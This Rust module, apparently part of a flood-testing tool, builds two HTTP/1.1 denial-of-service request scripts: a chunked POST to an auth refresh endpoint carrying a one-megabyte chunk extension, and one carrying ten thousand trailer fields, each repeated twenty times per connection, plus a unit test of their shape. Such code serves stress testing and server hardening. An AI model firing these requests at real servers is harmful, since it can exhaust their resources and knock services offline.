//! HTTP/1.1 attacks by what surrounds a chunked body.

use std::fmt::Write;
use std::time::Duration;

use crate::floods::attack::script::{Protocol, Script};

/// Requests a connection makes, if it is let.
const REQUESTS: u32 = 20;
const PAUSE: Duration = Duration::from_millis(500);
const EXTENSION_BYTES: usize = 1_000_000;
const TRAILERS: usize = 10_000;

/// A chunk whose extension is far larger than the chunk.
pub(super) fn chunk_extensions(authority: &str) -> Script {
    let extension = "e".repeat(EXTENSION_BYTES);
    script(format!("{}2;{extension}\r\n{{}}\r\n0\r\n\r\n", head(authority)))
}

/// Fields after the body, as many as a server takes.
pub(super) fn trailers(authority: &str) -> Script {
    let mut request = format!("{}2\r\n{{}}\r\n0\r\n", head(authority));
    for number in 0..TRAILERS {
        write!(request, "x-trailer-{number}: value\r\n").expect("a string takes all");
    }
    request.push_str("\r\n");
    script(request)
}

fn head(authority: &str) -> String {
    format!(
        "POST /api/auth/refresh HTTP/1.1\r\nhost: {authority}\r\ncontent-type: application/json\r\n\
         transfer-encoding: chunked\r\n\r\n"
    )
}

fn script(request: String) -> Script {
    let request = request.into_bytes();
    Script::new(Protocol::Http1, PAUSE, Vec::new(), move |turn| (turn < REQUESTS).then(|| request.clone()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn requests_are_well_formed_but_for_their_size() {
        for mut script in [chunk_extensions("localhost:1"), trailers("localhost:1")] {
            assert_eq!(script.next().expect("the opening"), b"");
            let request = script.next().expect("a request");
            assert!(request.len() > 200_000);
            assert!(request.ends_with(b"\r\n\r\n"));
            let body = request.windows(4).position(|window| window == b"\r\n\r\n").expect("a head") + 4;
            assert_eq!(request[body], b'2');
        }
    }
}
